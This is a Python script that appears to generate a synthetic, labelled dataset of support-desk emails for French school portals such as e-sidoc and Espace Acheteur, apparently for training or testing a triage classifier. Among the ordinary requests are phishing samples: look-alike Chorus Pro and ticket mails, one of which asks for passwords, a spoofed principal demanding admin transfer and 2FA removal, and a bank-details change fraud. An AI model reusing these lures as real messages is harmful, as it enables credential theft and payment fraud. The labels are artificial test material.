J'ai été mutée à la rentrée de Bretagne vers le Var, et j'écris depuis mon ancienne adresse académique, la nouvelle (ac-nice) étant encore en cours de réactivation depuis la réinitialisation générale.

Je suis désormais documentaliste au collège Marie-Curie à Hyères (UAI 0830233C). J'ai demandé l'activation de mon accès administrateur au portail e-sidoc du collège il y a quatre jours : le mail d'activation n'est jamais arrivé, ni sur l'adresse du CDI ni dans les spams.

Pourriez-vous le renvoyer ?

Maëlle Tanguy
"""))
label(41, "missing_noreply_mail", True, "0830233C", "provence-alpes-cote-d-azur", "esidoc", True, "fr",
      "Activation mail never arrived, no anti-spam product named. Written from her former ac-rennes.fr address: the UAI (Var, 083) gives the region, not the sender domain.")

mail(42, frm=("Mélanie Le Dantec", "finances@mairie-cleguer.fr"), client="outlook",
     subject="Facture introuvable sur Chorus Pro", dt=when(13, 10, 3),
     text=T("""
Bonjour,

Nous avons bien reçu la livraison des tablettes pour l'école (commande du 2 octobre passée via votre centrale), mais aucune facture n'est arrivée sur notre compte Chorus Pro.

Notre SIRET est le 219 560 344 00017 et nous n'avons pas de code service. Pouvez-vous vérifier à quelle structure la facture a été adressée ? Nous devons mandater avant le 15 décembre.

Cordialement,

Mélanie Le Dantec
Service finances - Mairie de Cléguer
"""))
label(42, "order_billing", False, None, None, "espace_acheteur", False, "fr",
      "A commune cannot find the invoice for a delivered order on Chorus Pro. Non-academic sender, no UAI.")

mail(43, frm=("Fabrice Lemaire", "fabrice.lemaire@ac-orleans-tours.fr"), client="thunderbird",
     subject="Impossible de télécharger le DCE - groupement papier 2026", dt=when(13, 14, 44),
     text=T("""
Bonjour,

Le lycée est coordonnateur adjoint du groupement de commandes « papier et reprographie 2026 ». Dans l'Espace Acheteur, la consultation apparaît bien, mais le bouton « Télécharger le DCE » reste grisé et un message indique « Documents non disponibles pour votre profil ». Ma collègue de l'agence comptable a le même message.

C'est gênant : nous devons relire le CCAP avant la publication. Pouvez-vous vérifier nos droits ou la mise en ligne des pièces ?

Cordialement,
-- 
F. Lemaire
Gestionnaire, Lycée en Forêt - Montargis
UAI 0452104T
"""))
label(43, "contract_documents", False, "0452104T", "centre-val-de-loire", "espace_acheteur", False, "fr",
      "Consultation file (DCE, CCAP) of a purchasing group cannot be downloaded: 'not available for your profile'.")

mail(44, frm=("Chorus Pro", "notification@chorus-pro-factures.com"), client="other",
     subject="Facture n°F-2025-88412 en attente de validation - action requise", dt=when(13, 6, 2),
     to=SUPPORT_ADDR, auth=("none", "fail", "none"), mta=("smtp.chorus-pro-factures.com", "203.0.113.166"),
     text=T("""
Bonjour,

Une facture d'un montant de 3 942,60 EUR déposée par votre fournisseur ASSISTANCE PORTAILS est en attente de votre validation.

Sans validation sous 48 heures, des pénalités de retard seront appliquées conformément à l'article L.2192-13 du code de la commande publique.

Consulter et valider la facture : https://chorus-pro-factures.com/doc/F-2025-88412

Chorus Pro - Portail de la facturation électronique
"""),
     html=T("""
<html><body style="font-family:Marianne,Arial,sans-serif">
<div style="border-top:4px solid #000091;padding:10px"><b>Chorus Pro</b> - Portail de la facturation électronique</div>
<p>Bonjour,</p>
<p>Une facture d'un montant de <b>3 942,60 EUR</b> déposée par votre fournisseur ASSISTANCE PORTAILS est <b>en attente de votre validation</b>.</p>
<p>Sans validation sous 48 heures, des pénalités de retard seront appliquées conformément à l'article L.2192-13 du code de la commande publique.</p>
<p><a href="https://chorus-pro-factures.com/doc/F-2025-88412">Consulter et valider la facture</a></p>
</body></html>
"""))
label(44, "other", False, None, None, None, True, "fr",
      "Phishing imitating Chorus Pro (look-alike domain chorus-pro-factures.com, SPF fail) sent to the desk: an invoice is mentioned, but it is not order_billing.")

mail(45, frm=("Daniel Hughes", "d.hughes@armor-it-services.fr"), client="outlook_en",
     subject="Mailinblack allow-list for your platform", dt=when(13, 15, 12),
     text=T("""
Hello,

We look after the IT of several town halls around Lorient. Since we rolled out Mailinblack last week, your Espace Acheteur notifications (account validation, order confirmations) are being held for our users until they solve the challenge, which they usually don't.

Which sender addresses and domains should we allow-list in the Mailinblack console so your mails go straight through?

Best regards,

Daniel Hughes
Armor IT Services
"""))
label(45, "mailinblack_spam", True, None, None, "espace_acheteur", False, "en",
      "English; an IT contractor asks which senders to allow-list in Mailinblack. No UAI, non-academic domain.")

mail(46, frm=("Hugo Ferrand", "hugo.ferrand@ac-orleans-tours.fr"), client="iphone",
     subject="Lien expiré", dt=when(13, 7, 48),
     text=T("""
Bonjour,
J'ai demandé hier soir un nouveau mot de passe pour l'e-sidoc du collège (0410003F), mais je n'ai ouvert le mail que ce matin et le lien est expiré. Pouvez-vous m'en renvoyer un ? Je le ferai tout de suite cette fois 🙂
Merci
Hugo

Envoyé de mon iPhone
"""))
label(46, "password_reset", True, "0410003F", "centre-val-de-loire", "esidoc", False, "fr",
      "Reset link expired (opened the next morning); asks for a new one.")

_ndr_box = f"PR0P264MB{R.randint(1000, 9999)}"
raw(47, [
    "Return-Path: <>",
    f"Delivered-To: {SUPPORT_ADDR}",
    f"Received: from EUR02-VI1-obe.outbound.protection.outlook.com (mail-vi1eur02on2101.outbound.protection.outlook.com [52.101.65.101])\n\tby {MX} (Postfix) with ESMTPS id 4{alnum(12)}\n\tfor <{SUPPORT_ADDR}>; Thu, 13 Nov 2025 16:22:09 +0100 (CET)",
    f"Authentication-Results: {MX};\n\tdkim=pass (2048-bit key) header.d=mairie-plescop.fr;\n\tspf=pass smtp.helo=EUR02-VI1-obe.outbound.protection.outlook.com;\n\tdmarc=none",
    "From: Microsoft Outlook <postmaster@mairie-plescop.fr>",
    f"To: <{SUPPORT_ADDR}>",
    "Subject: Non remis : [#SUP-118406] Facture en double",
    "Date: Thu, 13 Nov 2025 15:22:07 +0000",
    f"Message-ID: <{ruuid()}@{_ndr_box}.FRAP264.PROD.OUTLOOK.COM>",
    "Auto-Submitted: auto-replied",
    "X-MS-Exchange-Message-Is-Ndr: ",
    "Content-Language: fr-FR",
    "MIME-Version: 1.0"],
    multi("report", [
        multi("alternative", [
            text_part(T("""
Impossible de remettre votre message à ces destinataires ou groupes :

comptabilite@mairie-plescop.fr
L'adresse de messagerie que vous avez entrée est introuvable. Vérifiez l'adresse du destinataire et renvoyez le message. Si le problème persiste, contactez votre support technique.

Diagnostic pour les administrateurs :
Serveur de génération : PR0P264MB0987.FRAP264.PROD.OUTLOOK.COM
comptabilite@mairie-plescop.fr
Remote server returned '550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found by SMTP address lookup'
"""), "plain", "quoted-printable"),
            text_part(T("""
<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<p style="font-family:Segoe UI;font-size:17pt;color:#c00000">Votre message à comptabilite@mairie-plescop.fr n'a pas pu être remis.</p>
<p style="font-family:Segoe UI;font-size:11pt">comptabilite est introuvable dans mairie-plescop.fr.</p>
<p style="font-family:Segoe UI;font-size:10pt;color:#666">Action requise de l'expéditeur : vérifiez l'adresse du destinataire et renvoyez le message.</p>
<p style="font-family:Consolas;font-size:9pt">Remote server returned '550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found by SMTP address lookup'</p>
</body></html>
"""), "html", "quoted-printable"),
        ], boundary=f"_000_{hexs(24, True)}FRAP_"),
        P(["Content-Type: message/delivery-status"], T(f"""
Reporting-MTA: dns;{_ndr_box}.FRAP264.PROD.OUTLOOK.COM
Received-From-MTA: dns;mx1.assistance.example.fr
Arrival-Date: Thu, 13 Nov 2025 15:22:05 +0000

Final-Recipient: rfc822;comptabilite@mairie-plescop.fr
Action: failed
Status: 5.1.10
Diagnostic-Code: smtp;550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found by SMTP address lookup
""")),
        P(["Content-Type: text/rfc822-headers"], T("""
From: Assistance <support@assistance.example.fr>
To: comptabilite@mairie-plescop.fr
Subject: [#SUP-118406] Facture en double
Date: Thu, 13 Nov 2025 16:22:03 +0100
Message-ID: <SUP-118406.1763047323.77be10@assistance.example.fr>
""")),
    ], boundary=f"_001_{hexs(24, True)}FRAP_", params=" report-type=delivery-status;"))
label(47, "automated", False, None, None, None, False, "fr",
      "Exchange Online non-delivery report in French ('Non remis :'), multipart/report with HTML explanation, null Return-Path. About an invoice ticket, but a robot's mail.")

mail(48, frm=("Katell Derrien", "katell.derrien@ac-rennes.fr"), client="zimbra",
     subject="Cafeyn absent du portail (ce n'est PAS un souci de mot de passe)", dt=when(6, 10, 29),
     text=T("""
Bonjour,

Je préfère préciser tout de suite : je n'ai pas de problème de mot de passe. J'ai bien pu me reconnecter après la réinitialisation forcée et tout fonctionne dans l'administration.

En revanche, l'abonnement Cafeyn commandé mardi (4 novembre) n'apparaît toujours pas dans la liste des ressources à publier. Le bon de commande a été validé par l'intendance le jour même.

Merci de me dire s'il faut patienter encore.

Katell Derrien
Professeure documentaliste
Lycée Auguste-Pavie, Guingamp - 0222675N
"""))
label(48, "subscription_activation", True, "0222675N", "bretagne", "esidoc", True, "fr",
      "Negation: 'je n'ai pas de problème de mot de passe'. Cafeyn ordered two days ago and not yet listed: within 72 hours.")

mail(49, frm=("HADDAD Nadia", "nadia.haddad@ac-aix-marseille.fr"), client="outlook",
     subject="Identifiant ou mot de passe incorrect", dt=when(5, 11, 11),
     text=T("""
Bonjour,

depuis lundi et la réinitialisation des mots de passe demandée par le rectorat, l'Espace Acheteur me répond « identifiant ou mot de passe incorrect ». Je ne connais plus mon mot de passe, et je ne suis même plus sûre de l'identifiant : c'est bien le code de l'établissement, 0132843v ?

Je dois passer la commande de produits d'entretien avant la fin de la semaine.

Cordialement

Nadia Haddad
Secrétariat d'intendance
Lycée Saint-Exupéry - Marseille
"""))
label(49, "password_reset", True, "0132843V", "provence-alpes-cote-d-azur", "espace_acheteur", False, "fr",
      "Does not know her password any more nor whether the login is the UAI; UAI written in lower case ('0132843v'). The pending order is only context.")

_q50 = our_ref()
mail(50, frm=("Élodie Marchand", "elodie.marchand@ac-orleans-tours.fr"), client="zimbra",
     subject="Re: [#SUP-118254] Mot de passe e-sidoc", dt=when(13, 11, 56),
     in_reply_to=_q50,
     text=T("""
c'est bon ça marche, merci beaucoup !
Élodie

----- Mail original -----
De: "Assistance" <support@assistance.example.fr>
À: "elodie marchand" <elodie.marchand@ac-orleans-tours.fr>
Envoyé: Jeudi 13 Novembre 2025 09:12:40
Objet: [#SUP-118254] Mot de passe e-sidoc

Bonjour,

Un lien de réinitialisation du mot de passe a été envoyé à l'adresse officielle de votre établissement (c***@ac-orleans-tours.fr). Il est valable 12 heures.

Cordialement,
L'équipe d'assistance
"""))
label(50, "other", False, None, "centre-val-de-loire", "esidoc", True, "fr",
      "Thanks only, quoting the desk's reset answer (Zimbra 'Mail original'): nothing is asked. Region from the ac-orleans-tours.fr sender.")

# ==========================================================================
# h051 - h075
# ==========================================================================

mail(51, frm=("Le Proviseur", "ce.0290945V@ac-rennes.fr"), client="roundcube",
     subject="URGENT - administration du compte Espace Acheteur", dt=when(13, 6, 51),
     auth=("none", "fail", "fail"), mta=("vps-31877.hebergement-rapide.net", "203.0.113.93"),
     reply_to="Proviseur <proviseur.lycee.kerneuzec@gmail.com>",
     text=T("""
Bonjour,

Suite à l'incident de sécurité de l'académie, notre messagerie académique n'est plus fiable. Je vous demande de transférer immédiatement l'administration de notre compte Espace Acheteur vers l'adresse proviseur.lycee.kerneuzec@gmail.com et d'y envoyer les nouveaux identifiants.

Merci de désactiver également la double authentification, qui bloque nos commandes.

Je compte sur votre réactivité, des paiements urgents sont en attente.

Le Proviseur
Lycée de Kerneuzec
"""))
label(51, "head_of_establishment_request", False, "0290945V", "bretagne", "espace_acheteur", True, "fr",
      "Claims to be the proviseur writing from the ce.<UAI> address, but SPF and DMARC fail, it was sent from a VPS, Reply-To is Gmail and it asks to move the admin account to that Gmail address: a probable spoof. Still a head-of-establishment request for the queue, where staff should refuse it; UAI and region follow the rule (sender address).")

mail(52, frm=("Signature électronique", "ne-pas-repondre@esignature.example.fr"), client="other",
     subject="Rappel : un document attend votre signature", dt=when(14, 8, 0),
     mta=("out-3.esignature.example.fr", "198.51.100.23"),
     return_path="bounce+8812@esignature.example.fr",
     text=T("""
Bonjour Assistance,

Le document « Avenant n°1 à la convention constitutive du groupement de commandes 2026 » vous a été envoyé par Cellule achats le 10/11/2025 et attend toujours votre signature.

Signer le document : https://esignature.example.fr/s/7KQ2-MX81

Ce lien est personnel, ne le transférez pas.

Cet e-mail a été envoyé automatiquement par la plateforme de signature électronique.
"""),
     html=T("""
<html><body style="font-family:Arial,sans-serif;font-size:14px">
<p>Bonjour Assistance,</p>
<p>Le document <b>« Avenant n°1 à la convention constitutive du groupement de commandes 2026 »</b> vous a été envoyé par Cellule achats le 10/11/2025 et attend toujours votre signature.</p>
<p><a href="https://esignature.example.fr/s/7KQ2-MX81" style="background:#2b6cb0;color:#fff;padding:10px 20px;text-decoration:none">Signer le document</a></p>
<p style="color:#888;font-size:11px">Ce lien est personnel, ne le transférez pas.<br>Cet e-mail a été envoyé automatiquement par la plateforme de signature électronique.</p>
</body></html>
"""))
label(52, "automated", False, None, None, "esignature", True, "fr",
      "E-signature reminder sent by the platform itself: no Auto-Submitted or Precedence header, only the no-reply sender and the wording show it is automatic. About an amendment, but not a request.")

mail(53, frm=("LE MOAL Gaëlle", "gaelle.le-moal@ac-rennes.fr"), client="outlook",
     subject="Panier vidé et commande impossible à valider", dt=when(5, 13, 34),
     text=T("""
Bonjour,

Précision d'abord : mon mot de passe fonctionne, je l'ai changé comme tout le monde lundi et je me connecte normalement.

Par contre, lundi j'avais préparé un panier de 23 lignes (fournitures pour les ateliers) et il a disparu après la déconnexion forcée. Je l'ai ressaisi hier, mais au moment de valider la commande j'obtiens « Bon d'engagement invalide ou déjà rattaché à une commande ». Le numéro est pourtant neuf (BE 2025-0612).

Pouvez-vous regarder ce qui bloque ? La commande doit partir avant le 20 pour une livraison avant les vacances.

Gaëlle Le Moal
Adjointe gestionnaire
Lycée professionnel Marie-Le-Franc - Lorient
UAI 0562784X
"""))
label(53, "order_billing", False, "0562784X", "bretagne", "espace_acheteur", True, "fr",
      "Lost basket and order validation refused on the bon d'engagement. Opens by saying the password works: not password_reset.")

mail(54, frm=("Jérôme Caradec", "jerome.caradec@ac-rennes.fr"), client="zimbra",
     subject="Inscription portail des tickets - pas de mail", dt=when(14, 9, 27),
     text=T("""
Bonjour,

On m'a conseillé de créer un compte sur votre portail de suivi des tickets pour suivre mes demandes plutôt que d'écrire par mail. Je me suis inscrit hier matin ; la page indiquait qu'un mail de confirmation m'était envoyé pour définir mon mot de passe. Rien reçu depuis, spams vérifiés.

Cordialement
J. Caradec
"""))
label(54, "missing_noreply_mail", True, None, "bretagne", "ticket_portal", False, "fr",
      "Ticket-portal confirmation mail never arrived; no product named. No UAI, region from ac-rennes.fr.")

mail(55, frm=("Régis Abgrall", "r.abgrall@sivu-restauration-morlaix.fr"), client="thunderbird",
     subject="Compte en attente de validation", dt=when(14, 10, 40),
     text=T("""
Bonjour,

J'ai rempli le formulaire d'inscription à l'Espace Acheteur le 6 novembre pour le SIVU de restauration scolaire du pays de Morlaix. Depuis, quand j'essaie de me connecter, j'ai le message « Votre compte est en attente de validation ».

Je n'ai rien reçu d'autre. Est-ce normal ? Qui doit valider ?

Merci
Régis Abgrall
Directeur du SIVU
"""))
label(55, "account_creation", True, None, None, "espace_acheteur", False, "fr",
      "Signed up, account waiting for validation: the FAQ answer (who validates, what to expect) fits. Non-academic sender.")

mail(56, frm=("Chloé Arnaud", "chloe.arnaud@ac-aix-marseille.fr"), client="zimbra",
     subject="Accès administrateur e-sidoc - nouvelle documentaliste", dt=when(14, 11, 3),
     text=T("""
Bonjour,

Je remplace depuis le 3 novembre la documentaliste du collège des Garcins à Briançon (UAI 0051239V), partie en congé de longue durée. Personne ne m'a transmis le mot de passe de l'administration e-sidoc et je ne sais pas à quelle adresse le compte est rattaché.

Comment puis-je obtenir un accès ?

Merci beaucoup,
Chloé Arnaud
"""))
label(56, "password_reset", True, "0051239V", "provence-alpes-cote-d-azur", "esidoc", False, "fr",
      "Replacement librarian who never had the password nor knows the address on file: the reset path (official address, else head's written request) applies.")

mail(57, frm=("Julie Vasseur", "julie.vasseur@cyberform-conseil.fr"), client="outlook",
     subject="Sensibilisation au phishing de vos équipes", dt=when(14, 14, 15),
     text=T("""
Bonjour,

Les incidents récents dans plusieurs académies ont montré à quel point les équipes de support et les services financiers sont exposés aux tentatives d'hameçonnage et aux fraudes au changement de RIB.

Notre cabinet propose des sessions de sensibilisation de deux heures, en présentiel ou à distance, adaptées aux plateformes de services aux établissements scolaires : simulations d'attaques, bonnes pratiques pour les réinitialisations de mot de passe, procédures de vérification.

Seriez-vous disponible quinze minutes la semaine prochaine pour en parler ?

Bien cordialement,

Julie Vasseur
Responsable commerciale
CyberForm Conseil
"""))
label(57, "other", False, None, None, None, False, "fr",
      "Cold sales prospecting for phishing-awareness training, written to one person (no list headers): other.")

mail(58, frm=("LEFEVRE Franck", "franck.lefevre@ac-orleans-tours.fr"), client="android_outlook",
     subject="mails bloqués", dt=when(14, 17, 42),
     text=T("""
Bjr, vos mails de l espace acheteur sont bloqués par mail in black chez nous depuis le 3/11. Comment on les débloque? lycée Henri-Brisson Vierzon uai 0181819F. Merci. Franck

Obtenir Outlook pour Android<https://aka.ms/AAb9ysg>
"""))
label(58, "mailinblack_spam", True, None, "centre-val-de-loire", "espace_acheteur", True, "fr",
      "'mail in black' spelled apart, phone style, base64 Outlook for Android. UAI typed 0181819F: wrong check letter (the digits give 0181819E), so no UAI; region from the ac-orleans-tours.fr domain.")

mail(59, frm=("Isabelle Marchais", "secretariat@ste-marguerite-chambray.fr"), client="outlook",
     subject="Licence Charlemagne à régénérer après changement de serveur", dt=when(17, 8, 58),
     text=T("""
Bonjour,

Notre ancien serveur a été remplacé la semaine dernière (il avait été isolé par précaution après l'alerte de sécurité). Depuis la réinstallation de Charlemagne sur le nouveau serveur, Outils affiche « Licence non valide pour ce poste » et aucun transfert vers EcoleDirecte ne part.

Pourriez-vous régénérer notre licence ?

Bien cordialement,

Isabelle Marchais
Secrétaire de direction
Institution Sainte-Marguerite - Chambray-lès-Tours
UAI 0371511S
"""))
label(59, "transfer_incident", False, "0371511S", "centre-val-de-loire", "ecoledirecte", False, "fr",
      "Licence to regenerate after a server replacement; transfers to EcoleDirecte stopped.")

mail(60, frm=("Cellule achats - Rectorat de Corse", "achats@ac-corse.fr"), client="thunderbird",
     subject="Convention de groupement signée non visible", dt=when(17, 10, 12),
     text=T("""
Bonjour,

La convention constitutive du groupement de commandes « fournitures et consommables informatiques 2026 » a été signée électroniquement par l'ensemble des membres le 7 novembre. Nous avons bien reçu la notification de fin de signature, mais la convention signée n'apparaît pas dans l'onglet « Documents » du groupement sur l'Espace Acheteur : seule la version non signée y figure.

Les établissements membres nous la réclament pour leurs conseils d'administration. Pouvez-vous la mettre en ligne ?

Cordialement,

Pour la cellule achats,
Jean-Baptiste Leca
"""))
label(60, "contract_documents", False, None, "corse", "espace_acheteur", False, "fr",
      "The signed purchasing-group convention is not visible among the group's documents (only the unsigned version). Region from the ac-corse.fr sender; no UAI.")

mail(61, frm=("Oliver Grant", "olivergrant.cdi@gmail.com"), client="gmail",
     subject="Out of office", dt=when(17, 11, 5), in_reply_to=our_ref(),
     extra=("Auto-Submitted: auto-replied",),
     text=T("""
Hi,

I'm away on a school trip to Edinburgh until 21 November with limited access to email. For anything about library orders, please contact the school's finance office.

Thanks,
Oliver
"""))
label(61, "automated", False, None, None, None, False, "en",
      "English Gmail vacation responder (Auto-Submitted: auto-replied).")

mail(62, frm=("Laure Gimenez", "laure.gimenez@ac-aix-marseille.fr"), client="thunderbird",
     subject="mot de passe + Europresse", dt=when(12, 15, 7),
     text=T("""
Bonjour,

Deux choses :

1) je n'arrive plus à me connecter à l'administration e-sidoc depuis la réinitialisation générale, j'ai dû mélanger les mots de passe. Pouvez-vous m'envoyer un lien de réinitialisation ?

2) une fois connectée, je voudrais vérifier l'abonnement Europresse commandé lundi : les élèves me disent qu'il n'est pas accessible depuis l'ENT.

Merci !

Laure Gimenez
Documentaliste - Lycée de l'Arc, Orange
0841684Z
"""))
label(62, "password_reset", False, "0841684Z", "provence-alpes-cote-d-azur", "esidoc", True, "fr",
      "Two topics: lost password (first, main) and a subscription ordered two days earlier not visible (subscription_activation); one template would answer only half.")

mail(63, frm=("Jean-Michel Perrot", "jean-michel.perrot@ac-orleans-tours.fr"), client="iphone",
     subject="Fwd: Réinitialisation compte e-sidoc collège", dt=when(12, 11, 40),
     cc=ea("AUBRY Cécile", "cecile.aubry@ac-orleans-tours.fr"),
     text=T("""
Bonjour,

Je confirme la demande de Mme Aubry ci-dessous : vous pouvez réinitialiser le mot de passe administrateur e-sidoc du collège et envoyer le lien sur l'adresse officielle de l'établissement.

J-M Perrot
Principal, collège Jean-Valette, Saint-Amand-Montrond

Envoyé de mon iPhone

> Le 12 nov. 2025 à 10:14, AUBRY Cécile <cecile.aubry@ac-orleans-tours.fr> a écrit :
> 
> Monsieur le Principal,
> 
> Comme évoqué ce matin, l'assistance e-sidoc demande une confirmation écrite de votre part pour réinitialiser le compte administrateur du portail (UAI 0180756Z), dont le mot de passe a été perdu avec la réinitialisation générale. Pourriez-vous leur répondre directement en me laissant en copie ?
> 
> Merci,
> Cécile Aubry, professeure documentaliste
"""))
label(63, "head_of_establishment_request", False, "0180756Z", "centre-val-de-loire", "esidoc", False, "fr",
      "The principal confirms from his phone, quoting his librarian's message (Apple quote style), that the admin reset may be done. UAI only in the quoted part; personal academic address.")

mail(64, frm=("KERVELLA Rozenn", "rozenn.kervella@ac-rennes.fr"), client="outlook",
     subject="TR: Changement de coordonnées bancaires - Espace Acheteur", dt=when(18, 9, 2),
     text=T("""
Bonjour,

L'agence comptable a reçu ce message qui semble venir de chez vous. On nous a prévenus des fraudes au changement de RIB, alors avant de toucher à quoi que ce soit : est-ce bien vous ? Nous avons deux factures de la centrale à régler ce mois-ci.

Rozenn Kervella
Agence comptable - Lycée Tristan-Corbière, Morlaix
UAI 0292634F

________________________________
De : Espace Acheteur - Comptabilité <comptabilite@espaceacheteur-paiements.fr>
Envoyé : lundi 17 novembre 2025 16:41
À : KERVELLA Rozenn <rozenn.kervella@ac-rennes.fr>
Objet : Changement de coordonnées bancaires

Madame, Monsieur,

Suite à un changement d'établissement bancaire, nous vous prions d'effectuer vos prochains règlements sur notre nouveau compte, dont le RIB est joint à ce message. Les factures en attente doivent être réglées sur ce compte dès réception.

Merci de nous confirmer la prise en compte par retour de mail.

Service Comptabilité
"""))
label(64, "order_billing", False, "0292634F", "bretagne", "espace_acheteur", True, "fr",
      "An accounting office forwards a bank-details change (RIB fraud attempt, look-alike domain) and asks before paying two invoices whether it is genuine: a payment-means question for the billing team, so order_billing rather than other; no one may answer it automatically.")

mail(65, frm=("Lisandra Ceccaldi", "lisandra.ceccaldi@ac-corse.fr"), client="zimbra",
     subject="Publier Europresse pour les élèves", dt=when(17, 13, 30),
     text=T("""
Bonjour,

L'abonnement Europresse est bien actif (je le vois dans « Mes abonnements ») mais je ne trouve pas comment le rendre visible aux élèves sur la page d'accueil du portail. Faut-il créer un lien à la main ou y a-t-il une option de publication ?

Merci d'avance,

Lisandra Ceccaldi
Professeure documentaliste
Collège Fesch - Ajaccio - UAI 6200084X
"""))
label(65, "subscription_activation", True, "6200084X", "corse", "esidoc", False, "fr",
      "Active subscription, asks how to publish the resource for pupils: resource to publish.")

mail(66, frm=("BONNET Sylvie", "sylvie.bonnet@ac-nice.fr"), client="outlook",
     subject="Paiement par carte achat ?", dt=when(17, 14, 51),
     text=T("""
Bonjour,

Notre agence comptable vient de mettre en place la carte d'achat public pour les petites dépenses. Est-il possible de régler nos commandes de l'Espace Acheteur par ce moyen plutôt que par mandat administratif ? Si oui, où saisir le numéro de carte lors de la validation du panier ? Je n'ai vu que l'option « bon de commande ».

Merci,

Sylvie Bonnet
Gestionnaire - Collège Les Bréguières, Cagnes-sur-Mer
UAI 0060666S
"""))
label(66, "order_billing", False, "0060666S", "provence-alpes-cote-d-azur", "espace_acheteur", False, "fr",
      "Payment means: can orders be paid with the public purchasing card instead of mandat administratif?")

mail(67, frm=("Ghjuvan Petru Santucci", "gp.santucci@ac-corse.fr"), client="thunderbird",
     subject="Plus aucune alerte de l'Espace Acheteur", dt=when(17, 16, 20),
     text=T("""
Bonjour,

Depuis le 3 novembre je ne reçois plus aucune alerte de l'Espace Acheteur (nouvelles offres, mises à jour des catalogues), alors que j'en recevais deux ou trois par semaine. Mes abonnements aux alertes sont toujours cochés dans mon profil. Rien dans les indésirables.

Nous n'avons pas d'antispam particulier au collège, juste le filtrage de la messagerie académique.

Cordialement,
G.P. Santucci, gestionnaire, collège de Calvi - 7200218Z
"""))
label(67, "missing_noreply_mail", True, "7200218Z", "corse", "espace_acheteur", False, "fr",
      "Offer alerts from the no-reply address stopped arriving; junk checked, no anti-spam product named.")

_mdn68 = our_ref()
raw(68, [
    *transport("olivier.dalmasso@ac-nice.fr", when(18, 10, 17), "thunderbird"),
    "From: Olivier Dalmasso <olivier.dalmasso@ac-nice.fr>",
    "To: Assistance <support@assistance.example.fr>",
    "Subject: " + eh("Accusé de réception (affiché) - [#SUP-118577] Accès aux avenants"),
    f"Date: {rfcdate(when(18, 10, 17, 5))}",
    f"Message-ID: <{ruuid()}@ac-nice.fr>",
    f"In-Reply-To: {_mdn68}",
    f"References: {_mdn68}",
    "User-Agent: Mozilla Thunderbird",
    "MIME-Version: 1.0"],
    multi("report", [
        text_part(T("""
Ceci est un accusé de réception pour le courrier électronique envoyé à Olivier Dalmasso <olivier.dalmasso@ac-nice.fr>.

Note : cet accusé de réception indique seulement que le message a été affiché sur l'ordinateur du destinataire. Il n'y a aucune garantie que le destinataire ait lu ou compris le contenu du message.
"""), "plain", "8bit", "UTF-8", quote_cs=False),
        P(["Content-Type: message/disposition-notification; name=\"MDNPart2.txt\"",
           "Content-Disposition: inline"], T(f"""
Reporting-UA: ac-nice.fr; Mozilla Thunderbird
Final-Recipient: rfc822;olivier.dalmasso@ac-nice.fr
Original-Message-ID: {_mdn68}
Disposition: manual-action/MDN-sent-manually; displayed
""")),
        P(["Content-Type: text/rfc822-headers; name=\"MDNPart3.txt\"",
           "Content-Disposition: inline"], T(f"""
Subject: [#SUP-118577] Acces aux avenants
From: Assistance <support@assistance.example.fr>
To: Olivier Dalmasso <olivier.dalmasso@ac-nice.fr>
Message-ID: {_mdn68}
"""))],
        boundary=f"------------{alnum(24)}", params=" report-type=disposition-notification;"))
label(68, "automated", False, None, "provence-alpes-cote-d-azur", None, False, "fr",
      "Thunderbird return receipt in French ('Accusé de réception (affiché)'), disposition-notification. Region from ac-nice.fr.")

mail(69, frm=("Amanda Coles", "a.coles@riviera-intl-school.fr"), client="outlook_en",
     subject="Password reset - Espace Acheteur account", dt=when(18, 11, 30),
     text=T("""
Hello,

I'm the new business manager at Riviera International School. I need to log in to the Espace Acheteur to check an order, but the account was set up by my predecessor and nobody here knows the password.

The account is registered to accounts@riviera-intl-school.fr, which I can read. How do I reset the password?

Kind regards,

Amanda Coles
Business Manager
Riviera International School
"""))
label(69, "password_reset", True, None, None, "espace_acheteur", False, "en",
      "English; unknown Espace Acheteur password, the address on file is readable: standard reset. Private school, no UAI, non-academic domain.")

mail(70, frm=("Assistance - Suivi des demandes", "support@assistance-example-tickets.com"), client="other",
     subject="[#SUP-118299] Votre ticket a été résolu - confirmation requise", dt=when(18, 5, 33),
     to=SUPPORT_ADDR, auth=("none", "fail", "none"), mta=("mail.assistance-example-tickets.com", "203.0.113.240"),
     text=T("""
Bonjour,

Votre demande [#SUP-118299] a été traitée par notre équipe.

Pour clôturer le ticket et conserver l'accès à vos services après la mise à jour de sécurité, merci de confirmer votre identifiant et votre mot de passe sur la page suivante :

https://assistance-example-tickets.com/ticket/118299/confirm

Sans confirmation sous 48 heures, votre compte sera suspendu.

L'équipe d'assistance
"""))
label(70, "other", False, None, None, None, True, "fr",
      "Phishing imitating the desk's own ticket mails (ticket-like reference, look-alike domain, SPF fail), asking for a password: other. The [#SUP-...] reference must not attach it to a real ticket.")

mail(71, frm=("GARCIA Thierry", "thierry.garcia@ac-nice.fr"), client="outlook",
     subject="Droits de validation pour notre adjointe", dt=when(18, 14, 2),
     text=T("""
Bonjour,

Notre nouvelle adjointe, Mme Lopez, a bien un compte sur l'Espace Acheteur depuis la semaine dernière, mais elle ne peut que consulter : pas de bouton pour valider les paniers.

Pouvez-vous lui ouvrir les droits de validation des commandes, comme je les ai moi-même ? Je suis le gestionnaire titulaire, c'est moi qui valide d'habitude.

Thierry Garcia
Gestionnaire
Collège Émile-Thomas - Draguignan
UAI 0830997H
"""))
label(71, "account_creation", False, "0830997H", "provence-alpes-cote-d-azur", "espace_acheteur", False, "fr",
      "Order-validation rights to open for a colleague's existing account: account_creation (rights), handled by a person.")

mail(72, frm=("Pierre Hamon", "pierre.hamon35@gmail.com"), client="gmail",
     subject="Accès refusé aux pièces du marché de nettoyage", dt=when(18, 16, 25),
     text=T("""
Bonjour,

J'écris depuis ma boîte perso car la messagerie académique me redemande un code à chaque connexion et je n'ai pas mon téléphone pro sur moi...

Dans l'Espace Acheteur, quand j'ouvre le marché « prestations de nettoyage des locaux » (lot 2), le CCTP et l'avenant de prolongation affichent « Accès refusé ». Les autres marchés s'ouvrent normalement. C'est comme ça depuis le changement de mot de passe de lundi.

Pouvez-vous vérifier ?

Pierre Hamon
Gestionnaire, collège Gandhi, Fougères - 0350222B
"""))
label(72, "contract_documents", False, "0350222B", "bretagne", "espace_acheteur", False, "fr",
      "CCTP and an extension amendment show 'Accès refusé'. Personal Gmail, region from the UAI; the double-authentication aside is context.")

